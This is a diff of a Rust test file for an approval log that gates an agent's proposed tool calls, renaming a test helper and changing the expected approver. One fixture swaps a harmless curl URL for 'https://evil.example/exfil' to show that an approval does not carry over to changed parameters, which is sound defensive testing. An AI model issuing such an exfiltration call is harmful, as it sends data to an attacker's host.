@@ -4,7 +4,7 @@
 //! the `-o json` views.
 mod common;
 
-use common::{append, argus, argus_stdin, init_log, p, to_lines, Run};
+use common::{actor_of, argus, argus_stdin, init_log, p, record, to_lines, Run};
 use serde_json::{json, Value};
 use std::path::Path;
 use std::time::Duration;
@@ -122,7 +122,7 @@ fn rationale_of_19_chars_is_rejected_at_append() {
     // 20 characters is the minimum that passes.
     let mut e = proposal("p20", "web_search", "low", json!({}));
     e["payload"]["rationale"] = "exactly twenty chars".into();
-    append(tmp.path(), &[e]);
+    record(tmp.path(), &[e]);
     assert_eq!(show(tmp.path(), "p20")["status"], "pending");
 }
 
@@ -132,7 +132,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
     let dir = tmp.path();
     let old = json!({"tool": "curl", "args": ["https://ec.europa.eu/info/funding-tenders/"]});
     let new = json!({"tool": "curl", "args": ["https://evil.example/exfil"]});
-    append(
+    record(
         dir,
         &[proposal(
             "janus-abc123def456",
@@ -147,7 +147,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
     assert_eq!(p1["revision"], 1);
 
     // Same id, different parameters: a changed proposal, pending again.
-    append(
+    record(
         dir,
         &[proposal(
             "janus-abc123def456",
@@ -162,7 +162,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
     assert_eq!(p2["revision"], 2);
 
     // An approval carrying the OLD hash, appended directly, is ignored.
-    append(
+    record(
         dir,
         &[json!({"kind": "proposal.approved", "payload": {
             "proposal_id": "janus-abc123def456", "parameter_hash": hash(&old),
@@ -209,7 +209,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
     assert_eq!(ack["kind"], "proposal.approved");
     assert_eq!(ack["payload"]["parameter_hash"], hash(&new));
     assert_eq!(ack["payload"]["mode"], "alpha");
-    assert_eq!(ack["payload"]["approver"], "user:tester");
+    assert_eq!(ack["payload"]["approver"], actor_of("operator"));
     assert_eq!(ack["payload"]["reason"], "read-only");
     assert_eq!(
         entries(dir),
@@ -218,7 +218,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
     );
     let p4 = show(dir, "janus-abc123def456");
     assert_eq!(p4["status"], "approved");
-    assert_eq!(p4["approver"], "user:tester");
+    assert_eq!(p4["approver"], actor_of("operator"));
     assert_eq!(p4["decided_seq"], ack["seq"]);
 
     // Not pending any more: refused, nothing appended.
@@ -229,7 +229,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
 
     // Changing an approved proposal withdraws the approval.
     let third = json!({"tool": "curl", "args": ["https://example.org"]});
-    append(
+    record(
         dir,
         &[proposal(
             "janus-abc123def456",
@@ -242,7 +242,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
     assert_eq!(p5["status"], "pending");
     assert_eq!(p5["parameter_hash"], hash(&third));
     // Resubmitting identical parameters is not a change.
-    append(
+    record(
         dir,
         &[proposal("janus-abc123def456", "web_search", "low", third)],
     );
@@ -257,7 +257,7 @@ fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
 fn racing_decisions_write_exactly_one_entry() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
-    append(
+    record(
         dir,
         &[proposal(
             "p-race",
@@ -317,7 +317,7 @@ fn racing_decisions_write_exactly_one_entry() {
 fn reject_requires_a_reason_and_leaves_the_pending_list() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
-    append(
+    record(
         dir,
         &[
             proposal("p-keep", "web_search", "low", json!({"q": 1})),
@@ -345,7 +345,7 @@ fn reject_requires_a_reason_and_leaves_the_pending_list() {
         ],
     );
     r.assert_ok();
-    assert_eq!(r.json()["payload"]["approver"], "user:tester");
+    assert_eq!(r.json()["payload"]["approver"], actor_of("operator"));
     let pending: Vec<Value> = list(dir, false);
     assert_eq!(pending.len(), 1, "{pending:?}");
     assert_eq!(pending[0]["proposal_id"], "p-keep");
@@ -359,7 +359,7 @@ fn reject_requires_a_reason_and_leaves_the_pending_list() {
 
     // Executor lifecycle entries move an approved proposal on.
     run(dir, &["approvals", "approve", "p-keep"]).assert_ok();
-    append(
+    record(
         dir,
         &[
             json!({"kind": "proposal.executing", "payload": {"proposal_id": "p-keep"}}),
@@ -378,11 +378,11 @@ fn reject_requires_a_reason_and_leaves_the_pending_list() {
 fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
-    append(
+    record(
         dir,
         &[proposal("p-default", "web_search", "low", json!({}))],
     );
-    append(
+    record(
         dir,
         &[
             json!({"kind": "policy.set", "payload": {"policy_id": "approval-timeout", "scope": "global",
@@ -392,7 +392,7 @@ fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
                 "policy_type": "approval_timeout", "config": {"seconds": 7}}}),
         ],
     );
-    append(
+    record(
         dir,
         &[
             proposal("p-policy", "web_search", "low", json!({})),
@@ -422,7 +422,7 @@ fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
     assert_eq!(entries(dir), before);
 
     // An unrelated entry with ts >= deadline expires them in log time.
-    append(dir, &[json!({"kind": "x.tick", "payload": {}})]);
+    record(dir, &[json!({"kind": "x.tick", "payload": {}})]);
     let awaiting = list(dir, false);
     let status = |id: &str| {
         awaiting
@@ -437,7 +437,7 @@ fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
     assert_eq!(mode_show(dir)["expired"], 2);
 
     // An approval appended directly after the deadline changes nothing.
-    append(
+    record(
         dir,
         &[
             json!({"kind": "proposal.approved", "payload": {"proposal_id": "p-quick",
@@ -476,7 +476,7 @@ fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
     assert_eq!(mode_show(dir)["expired"], 2);
 
     // Sweep also records a proposal due by the clock when no later entry exists.
-    append(
+    record(
         dir,
         &[with_timeout(
             proposal("p-late", "web_search", "low", json!({})),
@@ -497,7 +497,7 @@ fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
 fn mode_promotion_is_refused_with_every_unmet_reason() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
-    append(
+    record(
         dir,
         &[
             proposal("p1", "web_search", "low", json!({"q": 1})),
@@ -531,7 +531,7 @@ fn mode_promotion_is_refused_with_every_unmet_reason() {
         &["approvals", "reject", "p2", "--reason", "out of scope"],
     )
     .assert_ok();
-    append(
+    record(
         dir,
         &[
             json!({"kind": "anomaly.detected", "payload": {"detector": "constitution", "severity": "critical", "reason": "executed without approval"}}),
@@ -593,7 +593,7 @@ fn mode_promotion_is_refused_with_every_unmet_reason() {
     assert_eq!(m["constitutional_violations"], 0);
     assert_eq!(m["constitutional_violations_total"], 1);
     assert_eq!(m["history"].as_array().unwrap().len(), 1);
-    assert_eq!(m["history"][0]["actor"], "user:tester");
+    assert_eq!(m["history"][0]["actor"], actor_of("operator"));
     assert_eq!(m["history"][0]["unmet"], json!([]));
     assert_replay_identical(dir);
 }
@@ -604,7 +604,7 @@ fn mode_promotion_is_refused_with_every_unmet_reason() {
 fn executing_without_approval_counts_as_a_constitutional_violation() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
-    append(
+    record(
         dir,
         &[
             proposal("p-ok", "web_search", "low", json!({"q": 1})),
@@ -624,7 +624,7 @@ fn executing_without_approval_counts_as_a_constitutional_violation() {
     )
     .assert_ok();
     let outcome = |id: &str, kind: &str| json!({"kind": kind, "payload": {"proposal_id": id}});
-    append(
+    record(
         dir,
         &[
             outcome("p-ok", "proposal.executing"),
@@ -661,7 +661,7 @@ fn beta_playbook_auto_approves_matching_proposals_only() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
     let params = json!({"path": "/var/log/janus", "op": "logrotate"});
-    append(
+    record(
         dir,
         &[
             json!({"kind": "playbook.set", "payload": {"playbook": "maintenance-001",
@@ -676,7 +676,7 @@ fn beta_playbook_auto_approves_matching_proposals_only() {
     let r = run(dir, &["approvals", "sweep", "-o", "json"]);
     r.assert_ok();
     assert!(r.stdout.trim().is_empty(), "{}", r.ctx());
-    append(
+    record(
         dir,
         &[
             json!({"kind": "proposal.approved", "payload": {"proposal_id": "p-match",
@@ -688,7 +688,7 @@ fn beta_playbook_auto_approves_matching_proposals_only() {
 
     // Beta, recorded directly as an operator decision (the CLI would refuse
     // on a fresh log); the projection notes what the log did not show.
-    append(
+    record(
         dir,
         &[
             json!({"kind": "mode.changed", "payload": {"from": "alpha", "to": "beta", "reason": "First Citizen authorization"}}),
@@ -726,7 +726,7 @@ fn beta_playbook_auto_approves_matching_proposals_only() {
 
     // Beta -> beta is refused; a removed playbook approves nothing.
     run(dir, &["mode", "set", "beta"]).assert_code(1);
-    append(
+    record(
         dir,
         &[
             json!({"kind": "playbook.removed", "payload": {"playbook": "maintenance-001"}}),
@@ -744,7 +744,7 @@ fn beta_playbook_auto_approves_matching_proposals_only() {
 fn views_print_text_and_unknown_ids_fail() {
     let (tmp, _) = init_log(None);
     let dir = tmp.path();
-    append(
+    record(
         dir,
         &[proposal("p-text", "web_search", "low", json!({"q": "x"}))],
     );
